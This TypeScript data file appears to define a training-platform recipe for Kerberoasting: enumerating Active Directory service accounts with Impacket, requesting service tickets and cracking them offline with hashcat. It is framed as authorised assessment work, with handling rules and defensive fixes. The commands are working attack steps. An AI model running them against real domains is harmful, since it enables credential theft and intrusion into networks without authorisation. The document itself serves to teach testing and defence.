import type { RecipeInput } from "../schemas";

const recipe: RecipeInput = {
  slug: "kerberoasting-hashcat",
  title: "Kerberoasting and offline cracking, responsibly",
  summary: "Enumerate SPN accounts, request service tickets with Impacket, crack them offline with hashcat (mode 13100 for RC4, 19700 for AES256), and handle the results within the rules of engagement — plus the defensive fixes.",
  description: "Any domain user can request a service ticket encrypted with a service account's password hash. This recipe shows the attack an assessor runs, how to handle cracked credentials safely, and what defenders change so it stops working.",
  type: "technical",
  difficulty: "advanced",
  estimated_minutes: 45,
  skills: ["active-directory", "password-attacks"],
  tools: ["Impacket", "hashcat", "BloodHound"],
  prerequisites: [],
  environment: "Authorised internal test only. Crack on an offline rig; store hashes and results in the engagement vault.",
  steps: [
    {
      title: "Enumerate SPN accounts",
      body: "List user accounts with SPNs and their password age.",
      command: "impacket-GetUserSPNs corp.test/t.user -dc-ip 10.0.0.10",
      expected_outcome: "A list of service accounts with SPNs, last logon and pwdLastSet.",
    },
    {
      title: "Request a ticket for the target",
      body: "Request only the accounts you need.",
      command: "impacket-GetUserSPNs corp.test/t.user -dc-ip 10.0.0.10 -request-user svc-target -outputfile svc.hash",
      expected_outcome: "A `$krb5tgs$23$...` (RC4) or `$krb5tgs$18$...` (AES256) hash.",
    },
    {
      title: "Crack offline",
      body: "Pick the mode from the etype: 23 → 13100, 17 → 19600, 18 → 19700. Use a targeted wordlist (company name, seasons, years) with rules.",
      command: "hashcat -m 13100 -a 0 svc.hash wordlist.txt -r rules/best64.rule -O",
      expected_outcome: "Cracked or exhausted, with time taken recorded.",
    },
    {
      title: "Handle results",
      body: "Record who, when, where stored; use the credential only to prove the next agreed hop; destroy at engagement close.",
      expected_outcome: "A handling log entry.",
    },
    {
      title: "Write the defensive fix",
      body: "gMSAs or 25+ character random passwords, AES-only (`msDS-SupportedEncryptionTypes`), no privileged group membership, detection on 4769 with 0x17 and many SPNs per requester.",
      expected_outcome: "Remediation list per account.",
    },
  ],
  validation_checks: ["The hashcat mode matches the ticket etype", "Credential handling is logged", "Each roastable account has a fix"],
  related: ["threat-hunt-hypothesis", "cvss-finding-writeup"],
  links: [{ mission: "AD-03", stage: "roast", required: true, order: 0 }],
  mentor_curated: true,
  status: "published",
};

export default recipe;
